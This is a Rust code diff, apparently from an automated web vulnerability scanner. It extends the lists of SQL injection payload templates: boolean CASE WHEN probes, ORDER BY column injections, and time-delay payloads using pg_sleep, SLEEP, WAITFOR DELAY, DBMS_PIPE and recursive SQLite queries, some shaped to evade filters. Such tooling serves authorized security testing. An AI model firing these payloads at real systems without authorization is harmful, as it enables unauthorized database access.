@@ -11,13 +11,15 @@ use crate::proof::Proof;
 const EQUAL: ([&str; 2], [&str; 2]) = (["37=37", "NOT 37=73"], ["37=73", "NOT 37=37"]);
 
 /// Where a value may stand, as what is put in for a condition `{c}`; `{v}` is the usual value.
-fn places(point: &Point) -> Vec<&'static str> {
+fn places(point: &Point) -> Vec<String> {
     let value = point.value.trim();
     let is_number = value.parse::<f64>().is_ok();
     let is_name =
         !value.is_empty() && value.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.'));
     let name = point.name.to_ascii_lowercase();
-    let sorts = ["sort", "order", "dir", "col", "by", "group"].iter().any(|word| name.contains(word));
+    let is_direction = ["asc", "desc"].iter().any(|word| value.eq_ignore_ascii_case(word));
+    let sorts =
+        is_direction || ["sort", "order", "dir", "col", "by", "group"].iter().any(|word| name.contains(word));
     let numbers =
         ["(CASE WHEN {c} THEN {v} ELSE 0-1 END)", "{v} AND {c}", "{v}) AND ({c}", "{v}/**/AND/**/{c}"];
     let strings = [
@@ -27,17 +29,24 @@ fn places(point: &Point) -> Vec<&'static str> {
         "{v}\" AND {c} AND \"a\" LIKE \"a",
         "{v}' AND {c}-- ",
         "{v}') AND {c}-- ",
-        "{v}'/**/AND/**/{c}/**/AND/**/'a'/**/LIKE/**/'a",
+        "{v}'AND({c})AND'a'LIKE'a",
+        "{v}%27 AND {c} AND %27a%27 LIKE %27a",
     ];
     let orders = [
         "(CASE WHEN {c} THEN {v} ELSE NULL END)",
         "{v},(CASE WHEN {c} THEN 1 ELSE abs(-9223372036854775807-1) END)",
         "{v},(SELECT 1/(CASE WHEN {c} THEN 1 ELSE 0 END))",
         "(CASE WHEN {c} THEN 1 ELSE abs(-9223372036854775807-1) END) {v}",
+        "{v},(SELECT(CASE WHEN {c} THEN 1 ELSE(SELECT 1 UNION SELECT 2)END))",
+        "{v}\"||(CASE WHEN {c} THEN '' ELSE NULL END)||\"{v}",
+        "{v}`*(CASE WHEN {c} THEN 1 ELSE NULL END)*`{v}",
     ];
     let mut list: Vec<&str> = Vec::new();
     if is_number {
         list.extend(numbers);
+    } else if value.ends_with(|letter: char| letter.is_ascii_digit()) {
+        // A number behind a word, or the last of several.
+        list.extend(["{v} AND {c}", "{v}) AND ({c}"]);
     }
     if sorts && is_name {
         list.extend(orders);
@@ -45,6 +54,14 @@ fn places(point: &Point) -> Vec<&'static str> {
     list.extend(strings);
     if is_name && !sorts && !is_number {
         list.extend(orders.iter().take(1));
+    }
+    let mut list: Vec<String> = list.into_iter().map(str::to_owned).collect();
+    if let Some((stem, ending)) = value.rsplit_once('.')
+        && !is_number
+        && (2..=4).contains(&ending.len())
+    {
+        // What is asked for by its name without the ending, once that is there.
+        list.push(format!("{stem}' AND {{c}} AND 'a' LIKE 'a.{ending}"));
     }
     list
 }
@@ -59,7 +76,8 @@ const ADDING: &[&str] = &[
     "{v}zq%' OR {c} OR 'a' LIKE 'b",
     "{v}zq')) OR {c}-- ",
     "0-1) OR ({c}",
-    "{v}'/**/OR/**/{c}--\t",
+    "{v}'OR({c})--\t",
+    "{v}zq\\' OR {c}-- ",
     "{v}zq' oR {c}#",
 ];
 
@@ -77,11 +95,12 @@ pub(super) async fn by_choice(
     (point, known): (&Point, &Facts),
 ) -> Option<(String, Proof)> {
     let is_quiet = known.is_quiet();
-    let narrowing = if is_quiet { Vec::new() } else { places(point) };
+    let narrowing: Vec<String> = if is_quiet { Vec::new() } else { places(point) };
     let adding = if changes(entry) { &[] } else { ADDING };
     // Where quotes that don't fit make no difference, an error shows as little.
     let failing = if known.breaks { FAILING } else { &[] };
-    let list: Vec<&str> = narrowing.iter().chain(adding).chain(failing).copied().collect();
+    let others = adding.iter().chain(failing).copied();
+    let list: Vec<&str> = narrowing.iter().map(String::as_str).chain(others).collect();
     for template in &list {
         // What fails on purpose is answered like a plain word where it does not fail.
         let fails = ["abs(", "1/(", "UNION SELECT"].iter().any(|word| template.contains(word));
@@ -129,50 +148,93 @@ fn changes(entry: &Entry) -> bool {
     entry.request.method != Method::Get && parts.any(|part| words.contains(&part))
 }
 
+/// What waits in MySQL, MariaDB, whatever stands around it; without blanks, which some filters take away.
+macro_rules! mysql {
+    () => {
+        "(SELECT(zr)FROM(SELECT(SLEEP({t}))zr)zq)"
+    };
+}
+
+/// What waits in PostgreSQL and gives an empty text.
+macro_rules! postgres {
+    () => {
+        "(SELECT(pg_sleep({t})))::text"
+    };
+}
+
+/// What works long in SQLite and gives an empty text.
+macro_rules! sqlite {
+    () => {
+        "(WITH/**/RECURSIVE/**/zq(x)AS(SELECT/**/1/**/UNION/**/ALL/**/SELECT/**/x+1/**/FROM/**/zq/**/LIMIT/**/1+{t}*6000000)SELECT/**/substr('',count(*))FROM/**/zq)"
+    };
+}
+
 /// What waits within a string, in each database's own way; `{t}` are seconds.
 pub(super) const STRINGS: [&str; 5] = [
-    "{v}'||(SELECT pg_sleep({t}))::text||'",
-    "{v}'+(SELECT zr FROM (SELECT SLEEP({t}) AS zr)zq)+'",
+    concat!("{v}'||", postgres!(), "||'"),
+    concat!("{v}'-", mysql!(), "-'"),
     "{v}';SELECT pg_sleep({t})-- ",
     "{v}';WAITFOR DELAY '0:0:{t}'-- ",
-    "{v}'||(WITH RECURSIVE zq(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM zq LIMIT 1+{t}*6000000) SELECT substr('',count(*)) FROM zq)||'",
+    concat!("{v}'||", sqlite!(), "||'"),
 ];
 
 /// The same, one for each database.
 pub(super) const LOGGED: [&str; 4] = [STRINGS[0], STRINGS[1], STRINGS[3], STRINGS[4]];
 
+/// What waits in place of a number, or behind the last of several.
+const NUMBERS: [&str; 5] = [
+    "{v}-(SELECT(0)FROM(SELECT(pg_sleep({t})))zq)",
+    concat!("{v}-", mysql!()),
+    "{v};SELECT pg_sleep({t})-- ",
+    "{v};WAITFOR DELAY '0:0:{t}'-- ",
+    "{v}-(WITH/**/RECURSIVE/**/zq(x)AS(SELECT/**/1/**/UNION/**/ALL/**/SELECT/**/x+1/**/FROM/**/zq/**/LIMIT/**/1+{t}*6000000)SELECT/**/0*count(*)FROM/**/zq)",
+];
+
+/// What waits behind the name of a column, or behind `ASC` and `DESC`: without quotes and within those of each database. What
+/// stands in the comment of the second is for strings in double quotes.
+const NAMES: [&str; 6] = [
+    concat!("{v},", postgres!()),
+    concat!("{v},", mysql!(), "/*\"-", mysql!(), "-\"*/"),
+    concat!("{v},", sqlite!()),
+    concat!("{v}\"||", postgres!(), "||\"{v}"),
+    concat!("{v}`-", mysql!(), "-`{v}"),
+    concat!("{v}\"||", sqlite!(), "||\"{v}"),
+];
+
 /// What waits, in each database's own way; `{t}` are seconds.
 pub(super) fn waiting(point: &Point, known: &Facts) -> Vec<&'static str> {
-    let strings = STRINGS;
-    let numbers = [
-        "{v}-(SELECT 0 FROM (SELECT pg_sleep({t}))zq)",
-        "{v}-(SELECT zr FROM (SELECT SLEEP({t}) AS zr)zq)",
-        "{v};SELECT pg_sleep({t})-- ",
-        "{v};WAITFOR DELAY '0:0:{t}'-- ",
-        "{v}-(WITH RECURSIVE zq(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM zq LIMIT 1+{t}*6000000) SELECT 0*count(*) FROM zq)",
-    ];
-    let rare = [
-        "{v}'||(SELECT DBMS_PIPE.RECEIVE_MESSAGE('zq',{t}) FROM DUAL)||'",
-        "{v}');SELECT pg_sleep({t})-- ",
-        "{v}\"+(SELECT zr FROM (SELECT SLEEP({t}) AS zr)zq)+\"",
-    ];
-    let is_number = point.value.trim().parse::<f64>().is_ok();
+    let is_number = is_number(&point.value);
     if matches!(point.place, Place::Header | Place::Path(_)) && !is_number {
-        return strings.to_vec();
+        return STRINGS.to_vec();
     }
-    let mut list: Vec<&str> = if is_number { numbers.to_vec() } else { Vec::new() };
+    let mut list: Vec<&str> = if is_number { NUMBERS.to_vec() } else { Vec::new() };
     if known.matters {
         // Conditions have been tried: what is left is one way for each database.
         list.extend(LOGGED);
         return list;
     }
-    list.extend(strings);
+    list.extend(STRINGS);
     if known.echoes {
         return list;
     }
-    list.extend(rare);
-    if !is_number {
+    list.push("{v}'||(SELECT DBMS_PIPE.RECEIVE_MESSAGE('zq',{t}) FROM DUAL)||'");
+    list.push("{v}');SELECT pg_sleep({t})-- ");
+    if is_name(&point.value) && !is_number {
+        list.extend(NAMES);
         list.push("(SELECT 1 FROM (SELECT pg_sleep({t}))zq)");
+    } else {
+        list.push(concat!("{v}\"-", mysql!(), "-\""));
     }
     list
+}
+
+/// Whether a value is a number, or several with commas between them.
+fn is_number(value: &str) -> bool {
+    value.split(',').all(|part| part.trim().parse::<f64>().is_ok())
+}
+
+/// Whether a value could be the name of a column, or several.
+fn is_name(value: &str) -> bool {
+    let of_name = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | ',' | ' ');
+    value.starts_with(|c: char| c.is_ascii_alphabetic()) && value.chars().all(of_name)
 }
